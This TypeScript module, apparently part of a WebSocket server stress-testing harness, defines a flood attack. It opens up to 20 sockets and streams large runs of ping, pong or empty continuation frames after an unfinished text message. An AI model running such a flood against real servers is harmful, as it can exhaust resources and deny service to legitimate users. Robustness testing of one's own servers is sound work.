import type { Attack } from '../attack.ts'
import { frame, OPCODE } from '../request.ts'

const SOCKETS_MAX = 20
/** What goes over the network in one piece. */
const PIECE_BYTES = 64 * 1024
const PIECES_MAX = 256

/** Floods of what is no message: pings, pongs, fragments, and fragments of nothing. */
export const attack: Attack = {
  name: 'floods of control frames',
  async run(target, random) {
    const flood = random.pick([
      frame(OPCODE.pong),
      frame(OPCODE.ping),
      frame(OPCODE.ping, 'x'.repeat(random.integer(1, 125))),
      frame(OPCODE.continuation, '', false),
      frame(OPCODE.continuation, 'x', false),
    ])
    const piece = Buffer.alloc(PIECE_BYTES - (PIECE_BYTES % flood.length), flood)
    const start = frame(OPCODE.text, '{', false)
    const pieces = random.integer(1, PIECES_MAX)
    const open = () => target.openSocket()
    const sockets = random.pick([SOCKETS_MAX, random.integer(1, SOCKETS_MAX)])
    const wires = await target.openMany(sockets, open)
    await Promise.all(
      wires.map(async (wire) => {
        wire.write(start)
        for (let sent = 0; sent < pieces && wire.isOpen; sent += 1) await wire.send(piece)
      }),
    )
  },
}
